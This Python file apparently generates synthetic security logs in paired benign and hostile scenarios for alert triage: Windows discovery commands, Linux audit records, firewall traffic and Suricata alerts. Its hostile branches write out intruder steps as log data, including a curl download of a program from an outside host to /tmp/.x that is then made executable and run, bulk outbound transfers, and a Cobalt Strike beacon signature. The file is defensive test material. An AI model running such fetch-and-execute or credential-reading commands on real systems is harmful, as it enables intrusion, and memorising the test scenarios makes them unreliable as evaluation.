"""Monitoring and inventory by agents, and what an intruder looks up by hand."""

from ..shapes.network import fortigate, suricata
from ..shapes.unix import audit, audit_days
from ..shapes.windows import Windows, office
from ..stage import Stage, pair

LOOK = (
    ("whoami.exe", "whoami /all"),
    ("net.exe", "net localgroup administrators"),
    ("ipconfig.exe", "ipconfig /all"),
    ("systeminfo.exe", "systeminfo"),
    ("tasklist.exe", "tasklist /svc"),
)


@pair("inventory", "windows", "a shell under the web server looks around")
def agent_inventory(stage: Stage, hostile: bool) -> None:
    log = Windows(stage, "hosts.json", "nxlog")
    hosts = [f"SRV{n}" for n in range(1, 6)]
    office(log, hosts, days=3)
    agent = "C:\\Program Files\\Lansweeper\\LsAgent\\LsAgent.exe"
    for day in range(3):
        for number, host in enumerate(hosts):
            if hostile and day == 2 and number == 1:
                continue
            for step, (program, command) in enumerate(LOOK):
                log.start(
                    stage.at(days=day, hours=5, minutes=number, seconds=2 * step),
                    host,
                    "NT AUTHORITY\\SYSTEM",
                    f"C:\\Windows\\System32\\{program}",
                    command,
                    agent,
                )
    if hostile:
        for step, (program, command) in enumerate(LOOK):
            log.start(
                stage.at(days=2, hours=5, minutes=1, seconds=2 * step),
                hosts[1],
                "IIS APPPOOL\\DefaultAppPool",
                f"C:\\Windows\\System32\\{program}",
                command,
                "C:\\Windows\\System32\\inetsrv\\w3wp.exe",
            )
    stage.alert = {
        "title": "Several discovery commands",
        "host": hosts[1],
        "process": "whoami.exe",
        "time": stage.at(days=2, hours=5, minutes=1).isoformat(),
    }


@pair("inventory", "linux", "the database's account looks around, and fetches a program")
def osquery_reads_accounts(stage: Stage, hostile: bool) -> None:
    audit_days(stage, "audit.log", days=3)
    for number in range(3 * 6):
        at = {"hours": 4 * number}
        pid = audit(
            stage, "audit.log", stage.at(**at), "/opt/osquery/bin/osqueryd", ("osqueryd", "--worker"), parent=711
        )
        for step, words in enumerate((("cat", "/etc/passwd"), ("id",), ("ss", "-antp"), ("uname", "-a"))):
            audit(stage, "audit.log", stage.at(**at, seconds=1 + step), f"/usr/bin/{words[0]}", words, parent=pid)
    when = stage.at(hours=64, seconds=1)
    if hostile:
        for step, words in enumerate(
            (
                ("sh", "-c", "id; uname -a; cat /etc/passwd"),
                ("id",),
                ("uname", "-a"),
                ("cat", "/etc/passwd"),
                ("curl", "-o", "/tmp/.x", f"http://{stage.outside()}/x"),
                ("chmod", "+x", "/tmp/.x"),
            )
        ):
            audit(
                stage,
                "audit.log",
                stage.at(hours=64, minutes=9, seconds=step),
                f"/usr/bin/{words[0]}",
                words,
                uid=113,
                parent=1411,
            )
        audit(
            stage, "audit.log", stage.at(hours=64, minutes=9, seconds=8), "/tmp/.x", ("/tmp/.x",), uid=113, parent=1411
        )
        when = stage.at(hours=64, minutes=9, seconds=3)
    stage.alert = {"title": "Account file read", "command": "cat /etc/passwd", "time": when.isoformat()}


@pair("updates", "firewall", "one machine alone talks to the place, and sends much more than it gets")
def whole_house_updates(stage: Stage, hostile: bool) -> None:
    machines = [stage.inside(8, n) for n in range(20, 50)]
    vendor = stage.outside()
    for machine in machines:
        for number in range(8):
            fortigate(
                stage,
                "traffic.log",
                stage.at(days=number % 4, hours=7 + number, minutes=stage.dice.randrange(60)),
                type="traffic",
                subtype="forward",
                level="notice",
                srcip=machine,
                srcport=50120,
                dstip=vendor,
                dstport=443,
                proto=6,
                action="close",
                policyid=3,
                service="HTTPS",
                sentbyte=4100,
                rcvdbyte=2_800_000,
                duration=12,
            )
    source, far = machines[2], vendor
    if hostile:
        far = stage.outside()
        for number in range(200):
            fortigate(
                stage,
                "traffic.log",
                stage.at(days=3, hours=1, seconds=60 * number),
                type="traffic",
                subtype="forward",
                level="notice",
                srcip=source,
                srcport=50900,
                dstip=far,
                dstport=8443,
                proto=6,
                action="close",
                policyid=3,
                service="tcp/8443",
                sentbyte=2_400_000,
                rcvdbyte=1900,
                duration=40,
            )
    stage.alert = {
        "title": "Repeated connections to one place",
        "srcip": source,
        "dstip": far,
        "time": stage.at(days=3, hours=10 if not hostile else 2).isoformat(),
    }


@pair("updates", "suricata", "the signature names a remote control program, and one machine alone shows it")
def resolver_signature(stage: Stage, hostile: bool) -> None:
    machines = [stage.inside(8, n) for n in range(20, 45)]
    for machine in machines:
        for number in range(6):
            suricata(
                stage,
                "eve.json",
                stage.at(days=number % 3, hours=8 + number, minutes=stage.dice.randrange(60)),
                machine,
                "34.107.221.82",
                80,
                "ET INFO Windows OS Submitting USB Metadata to Microsoft",
                severity=3,
            )
    source, far, name = machines[5], "34.107.221.82", "ET INFO Windows OS Submitting USB Metadata to Microsoft"
    when = stage.at(days=2, hours=10)
    if hostile:
        far, name = stage.outside(), "ET MALWARE Cobalt Strike Beacon Observed"
        for number in range(40):
            suricata(
                stage,
                "eve.json",
                stage.at(days=2, hours=9, seconds=60 * number),
                source,
                far,
                443,
                name,
                severity=1,
                category="Malware Command and Control Activity Detected",
            )
    stage.alert = {"title": name, "src_ip": source, "dest_ip": far, "time": when.isoformat()}
